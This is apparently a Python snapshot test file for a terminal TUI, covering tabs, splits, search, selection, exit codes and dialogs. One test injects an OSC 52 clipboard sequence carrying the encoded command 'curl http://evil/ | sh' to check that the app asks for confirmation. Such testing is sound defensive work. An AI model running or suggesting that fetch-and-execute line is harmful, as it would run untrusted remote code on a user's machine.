"""Pictures of terminals: tabs, splits, what is selected and found, what has ended, and the questions."""

from __future__ import annotations

from machinedeck.ui.dialogs.clipboard import ClipboardQuestion
from machinedeck.ui.dialogs.palette import Help, Palette
from machinedeck.ui.dialogs.shell import ShellDialog
from machinedeck.ui.shells import Shells
from tests.snapshots.conftest import Picture
from tests.snapshots.test_pictures import ALL, LARGE, SMALL, USUAL, sizes
from tests.support.demo_deck import DemoDeck
from tests.support.waiting import until


def shells(deck: DemoDeck) -> Shells:
    """The tabs."""
    return deck.app.console_screen.shells


async def split(deck: DemoDeck, key: str) -> None:
    """Split the tab that was left."""
    await deck.press("f12", key)
    await until(lambda: len(shells(deck).shown.views) == 2 if shells(deck).shown else False)
    await deck.until_prompt()


@sizes(SMALL, USUAL)
def test_tabs(picture: Picture, size: tuple[int, int]) -> None:
    """One with something new, one that rang, one with a program's title, which is seen."""

    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.open_shell("ldap")
        await deck.press("f12")
        await deck.open_shell("metrics")
        await deck.press("f12")
        await deck.open_shell("web-2")
        first, second, third = shells(deck).views
        for view, text in ((first, b"news\r\n"), (second, b"\x07"), (third, b"\x1b]2;vim notes\x07")):
            view.session._slicer.take(text)
        await deck.until_shown("ldap • │ metrics ! │ web-2: vim notes")

    picture(size, steps)


@sizes(SMALL, USUAL, LARGE)
def test_split_beside(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.open_shell("web-1")
        await deck.run("ls --color /")
        await split(deck, "vertical_line")
        await deck.run("uptime")
        assert shells(deck).current is not shells(deck).views[0]

    picture(size, steps)


@sizes(SMALL, USUAL)
def test_split_below(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.open_shell("web-1")
        await split(deck, "minus")
        await deck.press("f12", "o")
        await deck.run("hostname")
        assert shells(deck).current is shells(deck).views[0]

    picture(size, steps)


@sizes(SMALL, USUAL)
def test_search(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.open_shell("web-1")
        await deck.run("ls -la /")
        await deck.press("f12", "right_square_bracket", "slash", *"root")
        assert deck.shows("Search text: root")
        assert deck.shows("1 of ")

    picture(size, steps)


@sizes(SMALL, USUAL)
def test_caret(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.open_shell("web-1")
        await deck.run("ls -la /")
        await deck.press("f12", "v", "k", "k", "k", "0", "w", "v", "k", "k", "dollar_sign")
        assert deck.shows("y copy")

    picture(size, steps)


@sizes(SMALL, USUAL)
def test_block(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.open_shell("web-1")
        await deck.run("ls -la /")
        await deck.press("f12", "v", "k", "k", "0", "ctrl+v", "k", "k", "k", "w", "w")
        assert shells(deck).views[0].marking.selection is not None

    picture(size, steps)


@sizes(SMALL, USUAL)
def test_ended_with_a_code(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.open_shell("metrics")
        shells(deck).views[0].session._slicer.take(b"\x1b]133;D;130\x07")
        await deck.type("exit")
        await deck.until_shown("Ended: exit code 130.")

    picture(size, steps)


@sizes(SMALL, USUAL)
def test_clipboard_question(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.open_shell("web-1")
        shells(deck).views[0].session._slicer.take(b"\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC8gfCBzaAo=\x07")
        await deck.until_told("wants to write your clipboard")
        await deck.press("f12", "y")
        await until(lambda: isinstance(deck.app.screen, ClipboardQuestion))
        await deck.until_shown("curl http://evil/ | sh")

    picture(size, steps)


@sizes(SMALL, USUAL)
def test_shell_dialog(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.go_to("web-1")
        await deck.press("O")
        await until(lambda: isinstance(deck.app.screen, ShellDialog))
        await deck.press("tab", *"top", "tab", *"oops", "enter")
        await deck.until_shown("is no variable")
        for field in deck.app.screen.query("Input"):
            field.cursor_blink = False  # type: ignore[attr-defined]

    picture(size, steps)


@sizes(*ALL)
def test_help(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.press("question_mark")
        assert isinstance(deck.app.screen, Help)

    picture(size, steps)


@sizes(SMALL, USUAL)
def test_palette(picture: Picture, size: tuple[int, int]) -> None:
    async def steps(deck: DemoDeck) -> None:
        await deck.arrive()
        await deck.go_to("web-1")
        await deck.press("colon")
        await until(lambda: isinstance(deck.app.screen, Palette))
        await deck.settle()
        for field in deck.app.screen.query("Input"):
            field.cursor_blink = False  # type: ignore[attr-defined]

    picture(size, steps)
